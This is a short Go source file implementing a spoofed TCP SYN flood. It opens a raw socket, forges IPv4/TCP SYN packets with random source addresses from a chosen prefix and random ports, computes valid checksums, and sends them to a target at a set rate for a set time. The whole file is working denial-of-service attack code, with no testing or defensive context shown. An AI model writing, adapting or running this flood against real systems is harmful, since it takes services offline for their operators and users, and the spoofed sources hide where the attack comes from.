package main

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// synFlood sends TCP SYNs to target at rate per second for d, each from a random address of
// from and a random port, as a spoofed flood does: nobody answers the SYN-ACKs. It prints how
// many it sent.
func synFlood(target netip.AddrPort, from netip.Prefix, rate int, d time.Duration) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW) // IP_HDRINCL implied
	if err != nil {
		fmt.Fprintln(os.Stderr, "synflood:", err)
		os.Exit(1)
	}
	defer unix.Close(fd)
	dst := &unix.SockaddrInet4{Addr: target.Addr().As4()}
	pkt := make([]byte, 40)
	base := binary.BigEndian.Uint32(from.Masked().Addr().AsSlice())
	span := uint32(1) << (32 - from.Bits())
	const tick = time.Millisecond
	start, sent := time.Now(), 0
	for next := start; time.Since(start) < d; next = next.Add(tick) {
		want := int(float64(rate) * time.Since(start).Seconds())
		for ; sent < want; sent++ {
			src := base + rand.Uint32N(span)
			synPacket(pkt, src, binary.BigEndian.Uint32(dst.Addr[:]), uint16(1024+rand.IntN(64000)), target.Port())
			if err := unix.Sendto(fd, pkt, 0, dst); err != nil {
				fmt.Fprintln(os.Stderr, "synflood:", err)
				os.Exit(1)
			}
		}
		time.Sleep(time.Until(next))
	}
	fmt.Println(sent)
}

// synPacket writes an IPv4 header and a TCP SYN (no options) into b (40 bytes).
func synPacket(b []byte, src, dst uint32, sport, dport uint16) {
	clear(b)
	b[0], b[8], b[9] = 0x45, 64, unix.IPPROTO_TCP
	binary.BigEndian.PutUint16(b[2:], 40)
	binary.BigEndian.PutUint32(b[12:], src)
	binary.BigEndian.PutUint32(b[16:], dst)
	binary.BigEndian.PutUint16(b[10:], checksum(b[:20], 0))
	t := b[20:]
	binary.BigEndian.PutUint16(t[0:], sport)
	binary.BigEndian.PutUint16(t[2:], dport)
	binary.BigEndian.PutUint32(t[4:], rand.Uint32())
	t[12], t[13] = 5<<4, 0x02 // data offset 5 words; SYN
	binary.BigEndian.PutUint16(t[14:], 64240)
	// The pseudo-header: addresses, protocol, TCP length.
	pseudo := src>>16 + src&0xffff + dst>>16 + dst&0xffff + unix.IPPROTO_TCP + 20
	binary.BigEndian.PutUint16(t[16:], checksum(t, pseudo))
}

func checksum(b []byte, sum uint32) uint16 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
